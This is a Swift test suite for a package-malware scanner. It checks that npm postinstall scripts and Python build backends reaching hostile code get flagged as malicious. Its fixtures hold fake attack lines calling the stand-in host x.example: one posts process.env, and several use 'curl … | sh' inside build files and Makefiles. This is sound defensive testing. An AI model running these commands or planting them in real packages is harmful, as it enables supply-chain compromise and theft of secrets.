import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("What builds and installations lead to")
struct BuildReachTests {
    private static let send =
        "require('https').request({ host: 'x.example', method: 'POST' }).end(JSON.stringify(process.env))\n"
    private static let pipe = "#!/bin/sh\ncurl https://x.example/a | sh\n"

    private func npm(_ script: String, _ files: [String: String], more: String = "") throws -> AnalysisReport {
        let escaped = script.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"")
        let manifest = #"{"name":"acme-box","version":"1.2.3","scripts":{"postinstall":"\#(escaped)"\#(more)}}"#
        return try npmTarball(manifest: manifest) { tar in
            for (path, text) in files.sorted(by: { $0.key < $1.key }) { tar.addFile("package/\(path)", text) }
        }.report()
    }

    @Test(
        "a file is found however the command names it",
        arguments: [
            "node .\\tools\\x.js", "node < tools/x.js", "node $INIT_CWD/node_modules/acme-box/tools/x.js",
            "node ./tools/x",
        ])
    func named(_ command: String) throws {
        let report = try npm(command, ["tools/x.js": Self.send])
        #expect(report.verdict == .malicious, "\(report.findings.map(\.finding))")
        let other = try npm(command, ["tools/x.js": "module.exports = 1\n"])
        #expect(!other.findings.contains { $0.finding.severity == .malicious })
    }

    @Test("npm start without a script runs server.js")
    func start() throws {
        #expect(try npm("npm start", ["server.js": Self.send]).verdict == .malicious)
        #expect(try npm("npm start", ["server.js": Self.send], more: #","start":"echo 1""#).verdict != .malicious)
    }

    @Test("programs of bundled packages are on the path")
    func bundled() throws {
        #expect(try npm("box-setup", ["node_modules/.bin/box-setup": Self.pipe]).verdict == .malicious)
        #expect(try npm("box-setup", ["node_modules/.bin/box-other": Self.pipe]).verdict != .malicious)
    }

    @Test(
        "node runs what is linked to, whatever its name ends with",
        arguments: ["svg", "map", "toml", "yml", "dat", "sh"])
    func endings(_ ending: String) throws {
        let code = "require('child_process').exec('curl https://x.example/a | sh')\n"
        let linked = try npmCode("require('./lib/a.\(ending)')\n") { $0.addFile("package/lib/a.\(ending)", code) }
        #expect(linked.report().verdict == .malicious)
        let alone = try npmCode("exports.a = 1\n") { $0.addFile("package/lib/a.\(ending)", code) }
        #expect(alone.report().verdict == .clean)
    }

    private static let backends: [(backend: String, file: String, hostile: String, honest: String)] = [
        (
            "mesonpy", "meson.build", "run_command('sh', '-c', 'curl https://x.example/a | sh', check: true)",
            "run_command('git', 'describe', check: true)\n# curl https://x.example/a | sh"
        ),
        (
            "scikit_build_core.build", "CMakeLists.txt",
            "execute_process(COMMAND sh -c \"curl https://x.example/a | sh\")",
            "execute_process(COMMAND git describe)\nfind_package(CURL) # curl and sh"
        ),
        (
            "maturin", "build.rs",
            "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl https://x.example/a | sh\").status(); }",
            "fn main() { println!(\"cargo:rustc-link-lib=curl\"); }"
        ),
        (
            "pdm.backend", "pdm_build.py",
            "import os\ndef pdm_build_initialize(c):\n    os.system('curl https://x.example/a | sh')\n",
            "def pdm_build_initialize(c):\n    c.builder_config = 'curl'\n"
        ),
    ]

    @Test("the files of a build backend run when the package is built", arguments: 0..<4)
    func builds(_ index: Int) throws {
        let (backend, file, hostile, honest) = Self.backends[index]
        func report(_ text: String, backend: String) throws -> AnalysisReport {
            try sdist { tar in
                tar.addFile(
                    "acme_box-1.2.3/pyproject.toml",
                    "[build-system]\nrequires = [\"x\"]\nbuild-backend = \"\(backend)\"\n")
                tar.addFile("acme_box-1.2.3/\(file)", text)
            }.report()
        }
        #expect(try report(hostile, backend: backend).verdict == .malicious)
        #expect(try report(honest, backend: backend).verdict == .clean)
        // Nothing reads the file then.
        if !file.hasSuffix(".py") { #expect(try report(hostile, backend: "setuptools.build_meta").verdict == .clean) }
    }

    @Test("setup scripts run programs of the package and make")
    func programs() throws {
        func report(_ words: String, _ file: String, _ text: String) throws -> AnalysisReport {
            try sdist(setup: "import subprocess\nsubprocess.call([\(words)])\n") {
                $0.addFile("acme_box-1.2.3/\(file)", text)
            }.report()
        }
        let recipe = "all:\n\tcurl https://x.example/a | sh\n"
        #expect(try report("'./configure'", "configure", Self.pipe).verdict == .malicious)
        #expect(try report("'make', 'all'", "Makefile", recipe).verdict == .malicious)
        #expect(try report("'git', 'describe'", "Makefile", recipe).verdict == .clean)
    }
}
